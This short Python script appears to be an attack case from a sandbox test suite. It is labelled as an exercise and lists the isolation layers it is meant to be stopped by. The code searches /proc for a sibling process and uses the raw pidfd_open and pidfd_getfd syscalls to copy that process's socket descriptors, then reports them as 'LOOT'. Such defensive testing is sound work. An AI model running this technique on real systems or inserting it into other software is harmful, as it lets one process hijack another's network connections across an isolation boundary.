# /// attack
# exercise = "control-flow-vector"
# defended-by = ["bubblewrap", "namespaces", "landlock", "seccomp"]
# victim = true
# seconds = 4.0
# once = true
# ///

# %% name="function"
import contextlib
import ctypes
import os
import socket
import time

# A kernel's line has no name: who wants to listen takes a copy of the victim's own descriptor
# (pidfd_open 434, pidfd_getfd 438). The victim prints for two seconds.
system = ctypes.CDLL(None, use_errno=True).syscall
own = {os.getpid(), os.getppid()}
end = time.monotonic() + 1.5
taken = []
while time.monotonic() < end and not taken:
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                if pid in own or b"launch.py" not in file.read():
                    continue
            handle = system(434, pid, 0)
            for name in os.listdir(f"/proc/{pid}/fd"):
                if os.readlink(f"/proc/{pid}/fd/{name}").startswith("socket:"):
                    copy = system(438, handle, int(name), 0)
                    if copy >= 0:
                        taken.append(socket.socket(fileno=copy))
    time.sleep(0.05)
if taken:
    print("LOOT: sockets of a sibling", len(taken))
